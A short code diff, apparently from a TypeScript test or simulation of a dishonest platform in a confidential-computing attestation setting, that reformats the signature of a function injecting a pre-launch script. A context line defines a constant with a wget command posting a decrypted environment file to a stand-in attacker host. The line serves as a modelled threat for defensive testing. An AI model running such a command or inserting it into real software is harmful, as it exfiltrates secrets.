@@ -145,7 +145,10 @@ const PLATFORM_SCRIPT =
 const STEALS = "wget --post-file /dstack/.host-shared/.decrypted-env http://attacker.example\n";
 
 /** What the platform makes of a request's app-compose. */
-export function platformsCompose({ lies }: AttestationWorld, appCompose: AppCompose): AppCompose {
+export function platformsCompose(
+  { lies }: { readonly lies: ReadonlySet<Lie> },
+  appCompose: AppCompose,
+): AppCompose {
   return {
     ...appCompose,
     ...(lies.has("platform-script") && { pre_launch_script: PLATFORM_SCRIPT }),
